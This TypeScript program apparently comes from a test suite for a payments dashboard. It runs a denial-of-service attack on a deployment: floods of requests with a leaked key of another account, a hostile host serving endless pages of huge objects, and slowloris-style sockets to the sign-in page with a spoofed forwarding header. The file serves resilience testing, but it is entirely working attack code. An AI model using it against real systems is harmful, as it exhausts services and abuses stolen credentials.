import { createServer } from 'node:http'
import { connect } from 'node:net'
import { constants, setPriority } from 'node:os'
import { setTimeout as delay } from 'node:timers/promises'
import { anAccount, aPayment } from '@/test/factories/dashboard'

/**
 * Deployment that this program attacks, in its first argument: a leaked key of another account, the port on which it
 * answers as a connected host, the time before its answer to a delivery, and the extent of the attack.
 */
export type Target = Record<'apiUrl' | 'webUrl' | 'apiKey', string> &
  Record<'hostPort' | 'silenceMs' | 'callsPerSecond' | 'sockets', number>

const SOCKET_BYTES = 1_000_000
const SOCKET_CHUNK = Buffer.alloc(16_384, 97)
const SOCKET_PAUSE_MS = 250
/** A page of an endless list: new objects at each call, each just below the largest that is stored. */
const PAGE_OBJECTS = 20
const PAYER = { name: 'x'.repeat(250_000), email: 'a@b.example' }

/** Answers deliveries with an error, slowly, and calls as a connected host whose lists never end. */
function startHost({ hostPort, silenceMs }: Target): void {
  let objects = 0
  const large = () => aPayment({ id: `h${objects++}`, payer: PAYER, created_at: new Date().toISOString() })
  const page = () => {
    const data = Array.from({ length: PAGE_OBJECTS }, large)
    return { data, has_more: true, next_cursor: `c${objects}` }
  }
  createServer(async (request, response) => {
    request.resume()
    const isCall = request.url?.startsWith('/api/') === true
    if (!isCall) await delay(silenceMs)
    const id = (request.headers.authorization ?? '').replace('Bearer ', '')
    const body = request.url?.endsWith('/me') ? anAccount({ id }) : page()
    response.writeHead(isCall ? 200 : 500, { 'content-type': 'application/json' }).end(JSON.stringify(body))
  }).listen(hostPort, '127.0.0.1')
}

/** Calls with the leaked key at a fixed rate, beyond the limit of a key. */
function callWithLeakedKey({ apiUrl, apiKey, callsPerSecond }: Target): void {
  const headers = { Authorization: `Bearer ${apiKey}`, 'Content-Type': 'application/json' }
  let calls = 0
  const body = JSON.stringify({ title: 'x', amount: 1, metadata: { a: 'x'.repeat(400) } })
  setInterval(() => {
    const create = () => fetch(`${apiUrl}/api/v1/payment_links`, { method: 'POST', headers, body })
    const list = () => fetch(`${apiUrl}/api/v1/payments?limit=100`, { headers })
    void (calls++ % 2 === 0 ? create() : list()).then((answer) => answer.arrayBuffer()).catch(() => {})
  }, 1_000 / callsPerSecond)
}

/** Holds a socket open with a body that never ends; opens it again when it is closed. */
function holdSocket(webUrl: string): void {
  const { hostname, port, host } = new URL(webUrl)
  const socket = connect({ host: hostname, port: Number(port) })
  const head = `POST /sign-in HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: 203.0.113.66\r\nContent-Length: ${SOCKET_BYTES}`
  socket.on('connect', () => socket.write(`${head}\r\n\r\n`))
  const sending = setInterval(() => socket.write(SOCKET_CHUNK), SOCKET_PAUSE_MS)
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(sending)
    setTimeout(() => holdSocket(webUrl), 1_000)
  })
  socket.resume()
}

// A stranger has machines of their own: on this one, the program gets the time that the measured processes leave.
setPriority(constants.priority.PRIORITY_LOW)
const target: Target = JSON.parse(process.argv[2] ?? '')
startHost(target)
callWithLeakedKey(target)
for (let count = 0; count < target.sockets; count += 1) holdSocket(target.webUrl)
